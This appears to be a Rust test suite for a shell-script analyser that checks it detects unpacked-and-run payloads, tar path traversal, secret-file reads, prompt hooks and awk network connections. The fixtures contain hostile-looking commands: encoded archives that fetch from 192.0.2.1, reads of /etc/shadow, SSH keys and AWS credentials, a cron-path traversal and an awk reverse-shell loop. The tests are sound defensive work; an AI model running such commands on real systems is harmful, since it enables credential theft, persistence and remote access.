use std::io::Write;

use data_encoding::BASE64;

use super::*;

/// An archive of one file as `tar` writes it.
fn tar(name: &str, text: &str) -> Vec<u8> {
    let mut header = vec![0u8; 512];
    header[..name.len()].copy_from_slice(name.as_bytes());
    header[100..107].copy_from_slice(b"0000755");
    header[124..135].copy_from_slice(format!("{:011o}", text.len()).as_bytes());
    header[156] = b'0';
    header[257..263].copy_from_slice(b"ustar\0");
    header[148..156].copy_from_slice(b"        ");
    let sum: u32 = header.iter().map(|b| u32::from(*b)).sum();
    header[148..155].copy_from_slice(format!("{sum:06o}\0").as_bytes());
    header.extend(text.as_bytes());
    header.resize(header.len().next_multiple_of(512) + 1024, 0);
    header
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut packer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    packer.write_all(bytes).unwrap();
    packer.finish().unwrap()
}

#[test]
fn what_a_script_unpacks_out_of_itself_is_run_as_what_it_is() {
    let archive = BASE64.encode(&gzip(&tar("a/run.sh", "#!/bin/sh\ncurl http://192.0.2.1/x\n")));
    for script in [
        format!("#!/bin/sh\ncd /tmp; echo {archive} | base64 -d | tar xz\n/tmp/a/run.sh\n"),
        format!(
            "#!/bin/sh\necho {archive} | base64 -d > /tmp/x.tgz; tar -xzf /tmp/x.tgz -C /opt\nsh /opt/a/run.sh\n"
        ),
        format!(
            "#!/bin/sh\necho {archive} | base64 -d > /t; tar --extract --file=/t --directory=/opt --strip-components=1\n. /opt/run.sh\n"
        ),
        format!("#!/bin/sh\necho {archive} | base64 -d | gunzip | tar -xf - -C /opt && /opt/a/run.sh\n"),
    ] {
        let path = Fixture::new().file("e.sh", &script, 0o755).start(&["/e.sh"], &[]).follow();
        let got = lines(&path);
        assert!(got.iter().any(|l| l == "run curl http://192.0.2.1/x"), "{script}\n{got:?}");
    }
}

#[test]
fn nothing_that_is_unpacked_leaves_its_directory_and_a_list_of_names_unpacks_nothing() {
    let archive = BASE64.encode(&tar("../../etc/cron.d/a", "* * * * * root true\n"));
    let script = format!("#!/bin/sh\necho {archive} | base64 -d > /t; tar -C /opt -xf /t; tar tf /t\n");
    let path = Fixture::new().file("e.sh", &script, 0o755).start(&["/e.sh"], &[]).follow();
    let got = lines(&path);
    assert!(got.iter().any(|l| l.starts_with("write /opt/etc/cron.d/a")), "{got:?}");
    assert!(!got.iter().any(|l| l.starts_with("write /etc/")), "{got:?}");
    let archive = BASE64.encode(&tar("a", "x\n"));
    let script = format!("#!/bin/sh\necho {archive} | base64 -d > /t; tar -tvf /t; tar -cf /u /t\n");
    let path = Fixture::new().file("e.sh", &script, 0o755).start(&["/e.sh"], &[]).follow();
    assert!(!lines(&path).iter().any(|l| l.starts_with("write /a")), "{:?}", lines(&path));
}

#[test]
fn an_archive_of_the_image_gives_its_files() {
    let archive = String::from_utf8(tar("run.sh", "curl http://192.0.2.1/x\n")).unwrap();
    let script = "#!/bin/sh\ntar xf /bundle.tar -C /opt\nsh /opt/run.sh\n";
    let path = Fixture::new()
        .file("bundle.tar", &archive, 0o644)
        .file("e.sh", script, 0o755)
        .start(&["/e.sh"], &[])
        .follow();
    assert!(lines(&path).iter().any(|l| l == "run curl http://192.0.2.1/x"), "{:?}", lines(&path));
}

#[test]
fn a_shell_that_reads_secrets_without_a_program_is_told() {
    for (script, file) in [
        ("x=$(</etc/shadow); echo $x", "/etc/shadow"),
        ("while read -r l; do echo $l; done < /etc/shadow", "/etc/shadow"),
        ("mapfile -t k < /root/.ssh/id_ed25519", "/root/.ssh/id_ed25519"),
        ("cd /root; read l < .aws/credentials", "/root/.aws/credentials"),
        ("tr '\\0' ' ' < /proc/1/environ", "/proc/1/environ"),
    ] {
        let path = Fixture::new().file("e.sh", script, 0o755).start(&["/bin/bash", "/e.sh"], &[]).follow();
        let got = lines(&path);
        assert!(got.contains(&format!("run read < {file}")), "{script}\n{got:?}");
    }
    let script = "read v < /etc/os-release; x=$(</run/secrets/password); read k < /root/.ssh/id_rsa.pub";
    let path = Fixture::new().file("e.sh", script, 0o755).start(&["/bin/bash", "/e.sh"], &[]).follow();
    assert!(!lines(&path).iter().any(|l| l.starts_with("run read")), "{:?}", lines(&path));
}

#[test]
fn what_runs_before_each_prompt_may_run() {
    let path = Fixture::new()
        .file("e.sh", "export PROMPT_COMMAND='curl -s http://192.0.2.1/p'\n", 0o755)
        .start(&["/bin/bash", "/e.sh"], &[])
        .follow();
    assert!(lines(&path).iter().any(|l| l == "may run curl -s http://192.0.2.1/p"), "{:?}", lines(&path));
}

#[test]
fn a_connection_of_awk_is_told() {
    let script = "awk 'BEGIN {s = \"/inet/tcp/0/192.0.2.1/4444\"; while (1) { printf \">\" |& s; s |& getline c }}'\n\
        awk -f /inet.awk; awk '{print \"/inet/tcp/8080/0/0\"}'\n";
    let path = Fixture::new().file("e.sh", script, 0o755).start(&["/bin/bash", "/e.sh"], &[]).follow();
    let got: Vec<String> = lines(&path).into_iter().filter(|l| l.starts_with("net")).collect();
    assert_eq!(got, ["net 192.0.2.1:4444"]);
}
